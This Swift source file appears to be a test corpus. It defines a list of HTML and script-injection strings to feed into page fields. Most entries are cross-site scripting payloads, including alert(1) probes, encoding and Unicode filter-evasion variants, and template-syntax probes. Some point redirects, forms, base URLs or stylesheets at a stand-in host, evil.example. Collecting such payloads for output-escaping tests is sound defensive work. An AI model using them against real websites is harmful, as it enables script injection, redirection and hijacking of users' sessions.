/// Texts that try to be more than text, for every field that reaches a page.
enum InjectionVectors {
    static let all: [String] =
        [
            "<script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
            "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
            "\"><img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
            "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<body onload=alert(1)>",
            "<a href=javascript:alert(1)>x</a>", "<form action=//evil.example><button>x</button></form>",
            "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
            "<video><source onerror=alert(1)>",
            "<math><mtext></form><form><mglyph><svg><mtext><textarea><path id=x></textarea>",
            "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
            "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{background:url(//evil.example)}</style>",
            "<object data=javascript:alert(1)>", "<embed src=//evil.example>",
            "<template><script>1</script></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!--><script>alert(1)</script>-->",
            "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><x/>", "<!DOCTYPE html><x>",
            "\" onmouseover=alert(1) x=\"", "' onmouseover=alert(1) x='", "\" autofocus onfocus=\"alert(1)",
            "x\u{301}\"\u{301} onload=alert(1) \"\u{301}", "<\u{301}script>alert(1)<\u{301}/script>",
            "'\u{20E3} onload=1 '",
            "\"\u{FE0F} http-equiv=refresh content=\"\u{FE0F}0", "`onload=alert(1)", "<ScRiPt>alert(1)</sCrIpT>",
            "<script\u{0C}>alert(1)</script>", "<<script>script>alert(1)<</script>/script>", "&lt;script&gt;alert(1)",
            "&#60;script&#62;alert(1)", "&#x3C;script&#x3E;", "%3Cscript%3Ealert(1)%3C/script%3E",
            "\\u003cscript\\u003e",
            "\u{2028}<script>\u{2029}", "\u{202E}tpircs<", "\u{FEFF}<script>", "{{{svg}}}", "{{title}}",
            "{{#buttons}}x{{/buttons}}",
            "{{> partial}}", "{{=<% %>=}}", "{{% CONTENT_TYPE:TEXT}}<b>", "{host}{app}{store}", "</main></body></html>",
            "</p><p>",
            "<marquee>", "<x style=animation-name:x onanimationstart=alert(1)>",
            "<button formaction=javascript:alert(1)>x",
            "<a ping=//evil.example href=#>x</a>", "<area href=//evil.example>", "<plaintext>",
        ]
}
